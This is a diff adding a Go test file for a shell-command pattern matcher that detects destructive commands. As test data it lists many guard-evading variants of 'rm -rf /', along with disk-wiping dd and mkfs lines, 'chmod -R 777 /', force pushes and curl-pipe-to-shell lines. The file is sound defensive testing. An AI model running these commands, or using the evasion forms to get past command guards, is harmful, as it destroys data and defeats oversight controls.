@@ -1,0 +1,310 @@
+package shellcmd
+
+import (
+	"strings"
+	"testing"
+)
+
+const rmrf = "rm -rf"
+
+// Each line is a way to run a recursive force delete, most of them taken from known ways around
+// guards that look at the command text: wrappers, quoting, option clustering, nesting, substitutions.
+var mustMatch = []struct{ pattern, line string }{
+	{rmrf, "rm -rf /"},
+	{rmrf, "rm -fr /"},
+	{rmrf, "rm -r -f /"},
+	{rmrf, "rm -f -r /"},
+	{rmrf, "rm -vrf /tmp/x"},
+	{rmrf, "rm -rfv /"},
+	{rmrf, "rm / -rf"},
+	{rmrf, "rm -rf -- /"},
+	{rmrf, "rm -rf \"$HOME\""},
+	{rmrf, "/bin/rm -rf /"},
+	{rmrf, "/usr/bin/rm -rf /"},
+	{rmrf, `\rm -rf /`},
+	{rmrf, "'rm' -rf /"},
+	{rmrf, `"rm" -rf /`},
+	{rmrf, `"r"m -rf /`},
+	{rmrf, `r\m -rf /`},
+	{rmrf, "r''m -rf /"},
+	{rmrf, "rm '-rf' /"},
+	{rmrf, `rm "-r" "-f" /`},
+	{rmrf, `rm -\r\f /`},
+	{rmrf, "$'rm' -rf /"},
+	{rmrf, `$'\x72m' -rf /`},
+	{rmrf, `$'\162m' -rf /`},
+	{rmrf, "{rm,-rf,/}"},
+	{rmrf, "rm -{r,f} /"},
+	{rmrf, "rm \\\n  -rf /"},
+	{rmrf, "FOO=1 rm -rf /"},
+	{rmrf, "sudo rm -rf /"},
+	{rmrf, "sudo -u root rm -rf /"},
+	{rmrf, "sudo -uroot rm -rf /"},
+	{rmrf, "sudo -E -H rm -rf /"},
+	{rmrf, "sudo -- rm -rf /"},
+	{rmrf, "sudo --user=root rm -rf /"},
+	{rmrf, "sudo --user root LANG=C rm -rf /"},
+	{rmrf, "doas rm -rf /"},
+	{rmrf, "doas -u root rm -rf /"},
+	{rmrf, "env rm -rf /"},
+	{rmrf, "env -i FOO=1 rm -rf /"},
+	{rmrf, "env -u HOME -C /tmp rm -rf /"},
+	{rmrf, "env -S 'rm -rf' /"},
+	{rmrf, "env --split-string='rm -rf /'"},
+	{rmrf, "nice rm -rf /"},
+	{rmrf, "nice -n 5 rm -rf /"},
+	{rmrf, "nice -10 rm -rf /"},
+	{rmrf, "nohup rm -rf / &"},
+	{rmrf, "time rm -rf /"},
+	{rmrf, "time -p rm -rf /"},
+	{rmrf, "/usr/bin/time -f %e rm -rf /"},
+	{rmrf, "timeout 5 rm -rf /"},
+	{rmrf, "timeout -s KILL 5 rm -rf /"},
+	{rmrf, "timeout --signal=KILL -k 1 5 rm -rf /"},
+	{rmrf, "command rm -rf /"},
+	{rmrf, "command -p rm -rf /"},
+	{rmrf, "builtin rm -rf /"},
+	{rmrf, "exec rm -rf /"},
+	{rmrf, "exec -a foo rm -rf /"},
+	{rmrf, "stdbuf -o0 rm -rf /"},
+	{rmrf, "setsid nohup nice rm -rf /"},
+	{rmrf, "busybox rm -rf /"},
+	{rmrf, "echo / | xargs rm -rf"},
+	{rmrf, "xargs -0 rm -rf < list"},
+	{rmrf, "xargs -n 1 -P 4 rm -rf"},
+	{rmrf, "find . -print0 | xargs -0 -I{} rm -rf {}"},
+	{rmrf, `bash -c "rm -rf /"`},
+	{rmrf, "sh -c 'rm -rf /'"},
+	{rmrf, "bash -lc 'rm -rf /'"},
+	{rmrf, "zsh -c 'cd / && rm -rf *'"},
+	{rmrf, "dash -c -- 'rm -rf /'"},
+	{rmrf, "bash -o pipefail -c 'rm -rf /'"},
+	{rmrf, `bash -c 'bash -c "rm -rf /"'`},
+	{rmrf, "eval 'rm -rf /'"},
+	{rmrf, "eval rm -rf /"},
+	{rmrf, `eval "rm -rf" /`},
+	{rmrf, "sudo bash -c 'rm -rf /'"},
+	{rmrf, "sudo env FOO=1 timeout 5 nice rm -rf /"},
+	{rmrf, "echo hi; rm -rf /"},
+	{rmrf, "true && rm -rf /"},
+	{rmrf, "false || rm -rf /"},
+	{rmrf, "cat x | rm -rf /"},
+	{rmrf, "(rm -rf /)"},
+	{rmrf, "{ rm -rf /; }"},
+	{rmrf, "echo $(rm -rf /)"},
+	{rmrf, "echo `rm -rf /`"},
+	{rmrf, "diff <(rm -rf /) x"},
+	{rmrf, "tee >(rm -rf /) < x"},
+	{rmrf, "f() { rm -rf /; }; f"},
+	{rmrf, "if true; then rm -rf /; fi"},
+	{rmrf, "if rm -rf /; then :; fi"},
+	{rmrf, "for i in 1; do rm -rf /; done"},
+	{rmrf, "while true; do rm -rf /; done"},
+	{rmrf, "case x in x) rm -rf /;; esac"},
+	{rmrf, "! rm -rf /"},
+	{rmrf, "coproc rm -rf /"},
+	{rmrf, "[[ $(rm -rf /) ]]"},
+	{rmrf, "x=$(rm -rf /)"},
+	{rmrf, "export X=$(rm -rf /)"},
+	{rmrf, "echo \"$(rm -rf /)\""},
+	{rmrf, "bash <<'EOF'\nrm -rf /\nEOF"},
+	{rmrf, "bash <<< 'rm -rf /'"},
+	{rmrf, "su -c 'rm -rf /'"},
+	{rmrf, "su root -c 'rm -rf /'"},
+	{rmrf, `find / -exec rm -rf {} \;`},
+	{rmrf, "find / -execdir rm -rf {} +"},
+	{rmrf, "echo ok && sudo -n rm -rf --no-preserve-root /"},
+	{"rm -r|-R|--recursive -f|--force", "rm --recursive --force /"},
+	{"rm -r|-R|--recursive -f|--force", "rm -R --force /"},
+	{"rm -r|-R|--recursive -f|--force", "rm -Rf /"},
+	{"rm -r|-R|--recursive -f|--force", "rm --rec --forc /"},
+	{"git push --force|-f", "git push --force origin main"},
+	{"git push --force|-f", "git push -f"},
+	{"git push --force|-f", "git -C repo push -f"},
+	{"find -delete", "find . -name x -delete"},
+	{"chmod 777", "chmod -R 777 /"},
+	{"dd of=/dev/*", "dd if=/dev/zero of=/dev/sda"},
+	{"mkfs*", "sudo mkfs.ext4 /dev/sda1"},
+	{"rm|unlink", "unlink x"},
+}
+
+var mustNotMatch = []struct{ pattern, line string }{
+	{rmrf, "rm -r /tmp/x"},
+	{rmrf, "rm -f x"},
+	{rmrf, "rm x"},
+	{rmrf, "rm -- -rf"},
+	{rmrf, "rm -- -r -f"},
+	{rmrf, `rm "-r" x`},
+	{rmrf, "rm -i -v x"},
+	{rmrf, "rm -R -f x"},
+	{rmrf, "rm --force x"},
+	{rmrf, "echo rm -rf /"},
+	{rmrf, `echo "rm -rf /"`},
+	{rmrf, "printf '%s' 'rm -rf /'"},
+	{rmrf, "echo $'rm -rf /'"},
+	{rmrf, "echo -rf"},
+	{rmrf, "grep -rf pattern ."},
+	{rmrf, "git rm -rf x"},
+	{rmrf, "cp -rf a b"},
+	{rmrf, "ls -rf"},
+	{rmrf, "rmdir -rf x"},
+	{rmrf, "cat rm"},
+	{rmrf, "# rm -rf /"},
+	{rmrf, "true # ; rm -rf /"},
+	{rmrf, "echo '$(rm -rf /)'"},
+	{rmrf, `echo "\$(rm -rf /)"`},
+	{rmrf, "echo '`rm -rf /`'"},
+	{rmrf, "cat <<'EOF'\nrm -rf /\nEOF"},
+	{rmrf, "cat <<< 'rm -rf /'"},
+	{rmrf, "sudo -l rm -rf /"},
+	{rmrf, "command -v rm"},
+	{rmrf, "type rm"},
+	{rmrf, "man rm"},
+	{rmrf, "timeout 5 echo rm -rf"},
+	{rmrf, "env echo rm -rf /"},
+	{rmrf, "sudo -u rm ls -rf"},
+	{rmrf, "nice -n 5 ls -rf"},
+	{rmrf, "bash script.sh rm -rf"},
+	{rmrf, "bash -c 'echo rm -rf /'"},
+	{rmrf, "eval 'echo rm -rf /'"},
+	{rmrf, "xargs echo rm -rf"},
+	{rmrf, `find . -exec echo rm -rf {} \;`},
+	{rmrf, "find . -name '*.tmp' -print"},
+	{rmrf, "git commit -m 'rm -rf /'"},
+	{rmrf, "cat file | grep rm"},
+	{rmrf, "echo ${rm}"},
+	{rmrf, "f() { echo rm -rf; }"},
+	{"rm -r|-R|--recursive -f|--force", "rm --recursive x"},
+	{"rm -r|-R|--recursive -f|--force", "rm --dir -f x"},
+	{"git push --force|-f", "git push origin main"},
+	{"git push --force|-f", "git push --force-with-lease"},
+	{"find -delete", "find . -name x"},
+	{"dd of=/dev/*", "dd if=/dev/zero of=out.img"},
+	{"mkfs*", "mkdir x"},
+	{"mkfs*", "echo mkfs.ext4"},
+}
+
+// Lines whose commands cannot all be known before they run: a guard on rm -rf must not pass them.
+var mustBeUnknown = []struct{ pattern, line, reason string }{
+	{rmrf, "$(echo rm) -rf /", "the command name $(echo rm) is only known when the line runs"},
+	{rmrf, "`echo rm` -rf /", "the command name `echo rm` is only known when the line runs"},
+	{rmrf, "$CMD -rf /", "the command name $CMD is only known when the line runs"},
+	{rmrf, `"$@"`, `the command name "$@" is only known when the line runs`},
+	{rmrf, "c=rm; $c -rf /", "the command name $c is only known when the line runs"},
+	{rmrf, `eval "$x"`, `eval runs "$x", only known when the line runs`},
+	{rmrf, "eval $(echo rm -rf /)", "eval runs $(echo rm -rf /), only known when the line runs"},
+	{rmrf, `bash -c "$x"`, `bash -c runs "$x", only known when the line runs`},
+	{rmrf, `sh -c "$(curl -s example.com)"`, `sh -c runs "$(curl -s example.com)", only known when the line runs`},
+	{rmrf, "curl -s example.com | sh", "sh reads its script from standard input"},
+	{rmrf, "curl -s example.com | bash -s", "bash reads its script from standard input"},
+	{rmrf, "bash < script.sh", "bash reads its script from a file redirected to it"},
+	{rmrf, "bash <<EOF\n$x\nEOF", "bash reads a script from a here-document with expansions in it"},
+	{rmrf, "sudo $CMD", "the arguments of sudo include $CMD, only known when the line runs"},
+	{rmrf, `env -S "$x"`, `env -S splits "$x", only known when the line runs`},
+	{rmrf, `su -c "$x"`, `su -c runs "$x", only known when the line runs`},
+	{rmrf, "rm $FLAGS /", "the argument $FLAGS of rm is only known when the line runs"},
+	{rmrf, `rm -f "$x"`, `the argument "$x" of rm is only known when the line runs`},
+	{rmrf, "echo / | xargs rm -f", "the argument (arguments xargs reads when the line runs) of rm is only known when the line runs"},
+	{rmrf, "/bin/r? -rf /", "the command name /bin/r? is a file-name pattern"},
+	{rmrf, "rm -rf / &&", "not valid shell: 1:10: `&&` must be followed by a statement"},
+	{rmrf, "bash -c 'rm -rf / &&'", "not valid shell: 1:10: `&&` must be followed by a statement"},
+}
+
+func TestPatternMatches(t *testing.T) {
+	if len(mustMatch) < 60 || len(mustNotMatch) < 40 {
+		t.Fatalf("want at least 60 matching and 40 non-matching lines, have %d and %d", len(mustMatch), len(mustNotMatch))
+	}
+	for _, tc := range mustMatch {
+		if o, why := outcome(t, tc.pattern, tc.line); o != Match {
+			t.Errorf("%q on %q: got %v (%s), want a match", tc.pattern, tc.line, o, why)
+		}
+	}
+	for _, tc := range mustNotMatch {
+		if o, why := outcome(t, tc.pattern, tc.line); o != NoMatch {
+			t.Errorf("%q on %q: got %v (%s), want no match", tc.pattern, tc.line, o, why)
+		}
+	}
+}
+
+func TestPatternUnknown(t *testing.T) {
+	for _, tc := range mustBeUnknown {
+		o, why := outcome(t, tc.pattern, tc.line)
+		if o != Unknown || why != tc.reason {
+			t.Errorf("%q on %q: got %v %q, want unknown %q", tc.pattern, tc.line, o, why, tc.reason)
+		}
+	}
+}
+
+func outcome(t *testing.T, pattern, line string) (Outcome, string) {
+	t.Helper()
+	p, err := Compile(pattern)
+	if err != nil {
+		t.Fatalf("compile %q: %v", pattern, err)
+	}
+	l := Parse(line)
+	return p.MatchLine(&l)
+}
+
+func TestCompileErrors(t *testing.T) {
+	for _, tc := range []struct{ pattern, err string }{
+		{"", "empty command pattern"},
+		{"   ", "empty command pattern"},
+		{"rm| -rf", `command pattern "rm| -rf": empty alternative in the command name`},
+		{"rm -r||-R", `command pattern "rm -r||-R": empty alternative in "-r||-R"`},
+		{"/bin/rm -rf", `command pattern "/bin/rm -rf": the command name is compared by its basename; write "rm"`},
+	} {
+		_, err := Compile(tc.pattern)
+		if err == nil || err.Error() != tc.err {
+			t.Errorf("Compile(%q) = %v, want %q", tc.pattern, err, tc.err)
+		}
+	}
+}
+
+func TestPaths(t *testing.T) {
+	for _, tc := range []struct {
+		line  string
+		paths []string
+	}{
+		{"cat a > out.txt", []string{"a", "out.txt"}},
+		{"cp -r src/ dst", []string{"src/", "dst"}},
+		{"cd .system && rm -rf hooks", []string{".system", "hooks", ".system/hooks"}},
+		{"cd /etc; cat passwd", []string{"/etc", "passwd", "/etc/passwd"}},
+		{"echo >&2 2>&1", nil},
+		{"tee -a .system/hooks/x.yaml < in", []string{".system/hooks/x.yaml", "in"}},
+		{"dd if=/dev/zero of=/dev/sda", []string{"/dev/zero", "if=/dev/zero", "/dev/sda", "of=/dev/sda"}},
+		{"sed --in-place=.bak -e s/a/b/ f", []string{".bak", "s/a/b/", "f"}},
+		{"sudo -u root rm x", []string{"x"}},
+		{"bash -c 'rm a' && ./run.sh b", []string{"a", "./run.sh", "b"}},
+		{"rm -- -rf", []string{"-rf"}},
+		{`rm "$x" 'y z'`, []string{"y z"}},
+		{"cat <<EOF > out\nbody\nEOF", []string{"out"}},
+	} {
+		got := Parse(tc.line).Paths
+		if strings.Join(got, "\x00") != strings.Join(tc.paths, "\x00") {
+			t.Errorf("Parse(%q).Paths = %q, want %q", tc.line, got, tc.paths)
+		}
+	}
+}
+
+func TestCommands(t *testing.T) {
+	l := Parse("sudo -u root timeout 5 bash -c 'rm -rf /'")
+	var got []string
+	for _, c := range l.Commands {
+		s := c.Name
+		for _, a := range c.Args {
+			s += " " + a.Value
+		}
+		if c.Wrapper {
+			s += " (wrapper)"
+		}
+		got = append(got, s)
+	}
+	want := []string{"sudo -u root timeout 5 bash -c rm -rf / (wrapper)", "timeout 5 bash -c rm -rf / (wrapper)", "bash -c rm -rf / (wrapper)", "rm -rf /"}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") || len(l.Unresolved) != 0 {
+		t.Errorf("got %q, unresolved %q; want %q", got, l.Unresolved, want)
+	}
+}
+
+func (o Outcome) String() string {
+	return [...]string{"no match", "match", "unknown"}[o]
+}
